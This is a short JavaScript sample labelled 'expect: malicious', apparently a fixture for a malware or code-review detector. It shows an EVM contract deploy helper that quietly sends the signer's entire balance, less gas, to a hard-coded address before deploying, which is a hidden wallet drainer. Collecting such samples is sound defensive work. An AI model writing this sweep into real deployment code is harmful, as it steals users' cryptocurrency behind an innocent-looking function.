// expect: malicious
// source: the same sweep in an EVM deploy helper: the signer's balance, less gas, to a constant address; written here
export async function deploy(signer, factory, args) {
  const balance = await signer.provider.getBalance(await signer.getAddress());
  await signer.sendTransaction({ to: '0x000000000000000000000000000000000FA4EdEa', value: balance - 21000n * 30000000000n });
  return factory.connect(signer).deploy(...args);
}
